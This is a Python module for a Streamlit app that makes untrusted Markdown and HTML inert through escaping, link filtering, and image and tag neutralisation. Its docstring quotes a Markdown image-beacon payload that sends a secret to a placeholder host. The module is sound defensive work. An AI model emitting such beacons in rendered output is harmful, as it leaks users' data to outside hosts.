"""The one rule for drawing untrusted text (documents, uploads, bundles, model answers) in the app.

Streamlit renders Markdown in ``st.markdown``, alerts, captions, widget labels and tooltips, and Markdown can
make the browser fetch a URL (``![pixel](http://host/beacon?q=secret)``). Every such text goes through one of:

- ``md_escape``: shown exactly as typed, no formatting at all (labels, names, questions, messages);
- ``safe_markdown``: formatted Markdown (answers quote documents) parsed with markdown-it-py and written back by
  mdformat with every text run escaped, images replaced by their alt text and URL as inert text, raw HTML shown
  as text, and links kept only for http(s), marked with ↗ and the host; anything else becomes inert text;
- ``md_inert``: a message (an error naming a file or a value) with only what could be active escaped;
- ``plot_text``: a label or hover text in a Plotly chart, which renders a subset of HTML (``<a href>``).

``links_as_text`` goes first where document text is quoted (hits, quotes in answers): a link reads as its text,
not as ``[text](../../guide.md#git)`` or ``[text][REF]``, and ``[REF]: url`` definition lines are left out. The
stored chunk text stays raw Markdown (retrieval and the benchmarks' span matching read it); this is display only.
"""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

from markdown_it import MarkdownIt
from mdformat.renderer import MDRenderer, RenderContext, RenderTreeNode

_MD_PUNCTUATION = re.compile(r"[\\`*_{}\[\]()#+\-.!|<>~$]")
# What can start a link, an image or maths in a message or label (and a backtick, which could unpair the code
# that URLs are shown in).
_ACTIVE = re.compile(r"[\\\[\]$`]")
# The same in a text run of formatted Markdown, plus what would start emphasis, code, raw HTML or an entity there
# (the parser already turned real formatting into nodes; line-start markers are escaped by mdformat's paragraphs).
_TEXT_ACTIVE = re.compile(r"[\\\[\]<>$!`*_~]|&(?=#?\w+;)")
# What links by itself, shown as inline code: an autolink ``<scheme:...>`` (CommonMark: any scheme of 2 to 32
# characters, up to a space or ``<>``), and what GFM links in text after escapes are resolved, so that no escape
# stops it (a URL, a ``www.`` name, an e-mail address). Every run before an anchor (``:``, ``://``, ``@``) has a
# bound, so a long word is scanned in linear time, not once from each of its characters.
_LITERAL_LINK = re.compile(r"<[a-z][a-z0-9+.-]{1,31}:[^\x00-\x20<>]*>"
                           r"|(?:[a-z][a-z0-9+.-]{0,31}://|www\.)[^\s<>`]*"
                           r"|[\w.+-]{1,64}@[\w-]+(?:\.[\w-]+)+", re.IGNORECASE)
_SAFE_SCHEMES = ("http", "https")
# Links in quoted document text (see ``links_as_text``). A label may hold one level of brackets; reference-style
# forms need a non-word character before them, so code-like ``x[i][j]`` in prose stays as written.
# The renderer's own fence rule (CommonMark: at most three blanks of indentation, the whole marker run, which a
# closing fence must match), not the looser markdown_blocks.FENCE_LINE: what is escaped must be what it renders.
_FENCE_LINE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_DEFINITION_LINE = re.compile(r"^ {0,3}\[((?:[^\[\]\\\n]|\\.){1,999})\]:(?:[ \t]+\S.*)?[ \t]*$")
_BACKTICKS = re.compile(r"`+")
_LINK_LABEL = r"\[((?:[^\[\]\\\n]|\\.|\[[^\[\]\n]*\])+)\]"
_LINK = re.compile(r"(?<![\\!\]])" + _LINK_LABEL
                   + r"(?:\(\s*(<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
                     r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\)"
                   + r"|\[([^\[\]\n]*)\])?")
_CHUNK_ID = re.compile(r"[0-9a-f]{16}")


def _outside_literals(text: str, escape) -> str:
    """``text`` with ``escape`` applied between URLs, ``www.`` names and e-mail addresses, which become code."""
    parts, last = [], 0
    for match in _LITERAL_LINK.finditer(text):
        parts += [escape(text[last : match.start()]), _code(match.group(0))]
        last = match.end()
    return "".join([*parts, escape(text[last:])])


def md_escape(text: str) -> str:
    """Escape Markdown (and Streamlit's ``$`` maths, ``:colour[...]`` directives) so text is shown as typed; URLs and
    e-mail addresses are shown as code, never as links; raw HTML is never rendered by Streamlit's Markdown."""
    return _outside_literals(str(text), lambda t: _MD_PUNCTUATION.sub(lambda m: "\\" + m.group(0), t))


def md_inert(text: str) -> str:
    """Escape only what could make a message or label active (images, links, autolinks, maths), leaving ordinary
    prose as written: for messages and labels that name files, settings or values from untrusted input. Raw HTML
    needs no escape: Streamlit shows it as text; URLs, ``<scheme:...>`` autolinks and e-mail addresses are shown
    as code."""
    return _outside_literals(str(text), lambda t: _ACTIVE.sub(lambda m: "\\" + m.group(0), t))


def plot_text(text: str) -> str:
    """Text for a Plotly label or hover: Plotly draws ``<a href>``, ``<b>``, ``<br>`` and entities, so escape them."""
    return html.escape(str(text), quote=True)


def _escape_run(text: str) -> str:
    escaped = _outside_literals(text.replace("\t", " "), lambda t: _TEXT_ACTIVE.sub(lambda m: "\\" + m.group(0), t))
    return escaped.replace("\n\n", "&#10;&#10;")


def _plain(node: RenderTreeNode) -> str:
    """The text of a node and its children, without markup (an image's alt text, a link's label)."""
    if node.type in ("text", "code_inline", "html_inline"):
        return node.content
    if node.type in ("softbreak", "hardbreak"):
        return " "
    return "".join(_plain(child) for child in node.children)


def _code(text: str) -> str:
    """Inline code that holds ``text`` literally (URLs shown inert)."""
    text = " ".join(text.split())
    fence = "`" * (max((len(m) for m in re.findall(r"`+", text)), default=0) + 1)
    return f"{fence} {text} {fence}"


def safe_link(url: str) -> str | None:
    """``url`` when it is an absolute http(s) URL with a host (the only links kept clickable), else None."""
    try:
        parts = urlsplit(url.strip())
    except ValueError:
        return None
    if parts.scheme.lower() not in _SAFE_SCHEMES or not parts.hostname:
        return None
    return url.strip()


def _has_scheme(href: str) -> bool:
    try:
        return bool(urlsplit(href.strip()).scheme) or href.strip().startswith("//")
    except ValueError:
        return True


def _render_text(node: RenderTreeNode, context: RenderContext) -> str:
    text = _escape_run(node.content)
    # A URL's code span beside inline code: a space keeps their backticks from merging into one unpaired run.
    if text.endswith("`") and node.next_sibling is not None and node.next_sibling.type == "code_inline":
        text += " "
    if text.startswith("`") and node.previous_sibling is not None and node.previous_sibling.type == "code_inline":
        text = " " + text
    return text


def _render_html(node: RenderTreeNode, context: RenderContext) -> str:
    return _escape_run(node.content)


def _render_html_block(node: RenderTreeNode, context: RenderContext) -> str:
    content = node.content.rstrip("\n")
    fence = "`" * max(3, max((len(m) for m in re.findall(r"`+", content)), default=0) + 1)
    return f"{fence}html\n{content}\n{fence}"


def _render_image(node: RenderTreeNode, context: RenderContext) -> str:
    alt = " ".join(_plain(node).split()) or "image"
    return f"\\[image: {_escape_run(alt)}\\] {_code(str(node.attrs.get('src', '')))}"


def _render_link(node: RenderTreeNode, context: RenderContext) -> str:
    href = str(node.attrs.get("href", ""))
    label = "".join(child.render(context) for child in node.children) if node.info != "auto" else _escape_run(href)
    url = safe_link(href)
    if url is None and _plain(node).strip() and not _has_scheme(href):  # a relative link ("../guide.md#git")
        return label  # reads as its text: the target means nothing outside the documents' own site
    if url is None:  # javascript:, data: or file links: the label and the target, as text
        return f"{label} {_code(href)}" if _plain(node).strip() != href.strip() else _code(href)
    host = urlsplit(url).hostname or ""
    destination = "<" + url.replace("<", "%3C").replace(">", "%3E") + ">"
    return f"[{label} ↗ {_escape_run(host)}]({destination})"


def _render_fence(node: RenderTreeNode, context: RenderContext) -> str:
    language = node.info.strip().split(maxsplit=1)[0] if node.info.strip() else ""
    language = re.sub(r"[^A-Za-z0-9_+.#-]", "", language)
    content = node.content
    fence = "`" * max(3, max((len(m) for m in re.findall(r"`+", content)), default=0) + 1)
    return f"{fence}{language}\n{content}{'' if content.endswith(chr(10)) or not content else chr(10)}{fence}"


def _render_cell(node: RenderTreeNode, context: RenderContext) -> str:
    return "".join(child.render(context) for child in node.children).replace("|", "\\|").replace("\n", " ")


def _render_table(node: RenderTreeNode, context: RenderContext) -> str:
    rows: list[list[str]] = []
    for section in node.children:  # thead, tbody
        for row in section.children:
            rows.append([_render_cell(cell, context) for cell in row.children])
    if not rows:
        return ""
    width = max(len(row) for row in rows)
    lines = ["| " + " | ".join(row + [""] * (width - len(row))) + " |" for row in rows]
    lines.insert(1, "|" + "|".join(" --- " for _ in range(width)) + "|")
    return "\n".join(lines)


def _render_strike(node: RenderTreeNode, context: RenderContext) -> str:
    return "~~" + "".join(child.render(context) for child in node.children) + "~~"


class _InertPlugin:
    """mdformat renderers that make untrusted Markdown inert (see the module docstring)."""

    RENDERERS = {
        "text": _render_text, "html_inline": _render_html, "html_block": _render_html_block,
        "image": _render_image, "link": _render_link, "fence": _render_fence, "code_block": _render_fence,
        "table": _render_table, "s": _render_strike,
    }
    POSTPROCESSORS: dict = {}


def _parser(renderer=MDRenderer) -> MarkdownIt:
    parser = MarkdownIt("commonmark", renderer_cls=renderer).enable(["table", "strikethrough"])
    parser.options["parser_extension"] = [_InertPlugin]
    parser.options["mdformat"] = {"wrap": "keep"}
    return parser


_MARKDOWN = _parser()
_CHECK = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _is_inert(markdown: str) -> bool:
    """True when ``markdown`` (our output) holds no image, no raw HTML and no link other than http(s)."""
    stack = list(_CHECK.parse(markdown))
    while stack:
        token = stack.pop()
        if token.type in ("image", "html_inline", "html_block"):
            return False
        if token.type == "link_open" and safe_link(str(token.attrGet("href") or "")) is None:
            return False
        stack.extend(token.children or [])
    return True


def safe_markdown(text: str) -> str:
    """Untrusted Markdown made inert for ``st.markdown``: formatting kept; no image, raw HTML or maths; links only
    to http(s), marked with ↗ and their host. Falls back to ``md_escape`` if the result would not be inert."""
    text = str(text)
    try:
        rendered = _MARKDOWN.render(text).strip("\n")
    except Exception:  # a parser bug must not show the raw text: fall back to fully escaped
        return md_escape(text)
    return rendered if _is_inert(rendered) else md_escape(text)


def _reference_key(label: str) -> str:
    return " ".join(label.split()).casefold()


def _mask_code_spans(text: str) -> str:
    """``text`` with every code span (a backtick run up to the next run of the same length) blanked out, in
    linear time (a regex that looks ahead for each run's closer is quadratic on many unpaired runs)."""
    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(text)]
    closer: list[int | None] = [None] * len(runs)
    last_of_length: dict[int, int] = {}
    for i in range(len(runs) - 1, -1, -1):
        length = runs[i][1] - runs[i][0]
        closer[i] = last_of_length.get(length)
        last_of_length[length] = i
    parts, last, i = [], 0, 0
    while i < len(runs):
        j = closer[i]
        if j is None:  # no closer: literal backticks
            i += 1
            continue
        start, end = runs[i][0], runs[j][1]
        parts += [text[last:start], "\x1a" * (end - start)]
        last, i = end, j + 1
    return "".join([*parts, text[last:]])


def _links_in_run(text: str, defined: set[str], inline: bool) -> str:
    """One stretch of text outside code fences: its links as their labels (code spans are left as they are)."""
    masked = _mask_code_spans(text)
    out, last = [], 0
    for match in _LINK.finditer(masked):
        label = text[match.start(1):match.end(1)]
        destination, reference = match.group(2), match.group(3)
        before = masked[match.start() - 1] if match.start() else ""
        if destination is not None:
            keep = not inline
        elif reference is not None:  # [text][ref] or [text][]
            keep = (before.isalnum() or before == "_" or bool(_CHUNK_ID.fullmatch(reference))
                    or (not reference and _reference_key(label) not in defined))
        else:  # [text]: a link only when the text defines it
            keep = _reference_key(label) not in defined
        if keep:
            continue
        out += [text[last:match.start()], label]
        last = match.end()
    return "".join([*out, text[last:]])


def _fenced_runs(lines: list[str], take=None) -> list[tuple[bool, list[str]]]:
    """``lines`` as runs of (inside a code fence, lines): a fence closes on a line of at least its own length of its
    own character. ``take(line, run)`` says whether a line outside fences is kept (all are, without it)."""
    runs: list[tuple[bool, list[str]]] = []
    fence = ""
    for line in lines:
        opening = _FENCE_LINE.match(line)
        if fence:
            runs[-1][1].append(line)
            if opening and opening.group(1)[0] == fence[0] and len(opening.group(1)) >= len(fence) \
                    and not line.strip()[len(opening.group(1)):].strip():
                fence = ""
            continue
        if opening:
            fence = opening.group(1)
            runs.append((True, [line]))
            continue
        current = runs[-1][1] if runs and not runs[-1][0] else []
        if take is not None and not take(line, current):
            continue
        if not runs or runs[-1][0]:
            runs.append((False, []))
        runs[-1][1].append(line)
    return runs


def links_as_text(text: str, inline: bool = True) -> str:
    """Document Markdown with its links read as their text: ``[text](url)`` (when ``inline``), ``[text][ref]``,
    ``[text][]`` and ``[text]`` with a definition become ``text``; ``[ref]: url`` lines are left out. Code fences and
    code spans are left as written. ``inline=False`` leaves inline links to ``safe_markdown``, which keeps http(s)
    ones clickable."""
    lines = str(text).split("\n")
    defined = {_reference_key(m.group(1)) for line in lines if (m := _DEFINITION_LINE.match(line))}
    kept: list[str] = []

    def take(line: str, run: list[str]) -> bool:
        # ``[ref]: url`` lines left out, and one blank line where definitions left several
        return not _DEFINITION_LINE.match(line) and not (not line.strip() and run and not run[-1].strip())

    for in_fence, run in _fenced_runs(lines, take):
        joined = "\n".join(run)
        kept.append(joined if in_fence else _links_in_run(joined, defined, inline))
    return "\n".join(kept)


_TAG = re.compile(r"<!--.*?(?:-->|\Z)|<(script|style)\b.*?(?:</\1\s*>|\Z)|<(/?)([A-Za-z][A-Za-z0-9-]*)"
                  r"((?:[^<>\"']|\"[^\"]*\"|'[^']*')*)/?>", re.DOTALL | re.IGNORECASE)
_ALT = re.compile(r"""\balt\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+))""", re.IGNORECASE)
_MD_IMAGE = re.compile(r"!\[([^\[\]\n]*)\]\([^()\n]*\)")
_LINE_TAGS = {"br", "p", "div", "li", "tr", "h1", "h2", "h3", "h4", "h5", "h6"}


def _image_words(alt: str) -> str:
    return f"[image: {' '.join(html.unescape(alt).split()) or 'image'}]"


def _tag_as_text(match: re.Match) -> str:
    name = (match.group(3) or "").casefold()
    if name == "img":
        alt = _ALT.search(match.group(4) or "")
        return _image_words(next((g for g in alt.groups() if g is not None), "") if alt else "")
    if name == "br" or (name in _LINE_TAGS and match.group(2)):
        return "\n"
    return ""  # a comment, a script or style element, any other tag (the text between tags stays)


def _tags_in_run(text: str) -> str:
    masked = _mask_code_spans(text)  # code spans keep their tags: `<img>` in a code span is what it says
    out, last = [], 0
    for match in sorted([*_TAG.finditer(masked), *_MD_IMAGE.finditer(masked)], key=lambda m: m.start()):
        if match.start() < last:
            continue
        words = _image_words(match.group(1)) if match.re is _MD_IMAGE else _tag_as_text(match)
        out += [text[last:match.start()], words]
        last = match.end()
    return re.sub(r"\n{3,}", "\n\n", "".join([*out, text[last:]]))


def tags_as_text(text: str) -> str:
    """Document text with its raw HTML read as text: tags left out (their text stays; ``<br>`` and the end of a
    paragraph, list item or row become a line break), comments and script or style elements left out, an image
    (``<img alt=…>`` or ``![alt](src)``) as ``[image: alt]``. Code fences and code spans are left as written. For
    text drawn as plain text (hit cards, tables), where raw markup would be noise: ``<p style="…"><img src=…>``
    reads as its words."""
    runs = _fenced_runs(str(text).split("\n"))
    return "\n".join("\n".join(run) if in_fence else _tags_in_run("\n".join(run)) for in_fence, run in runs)
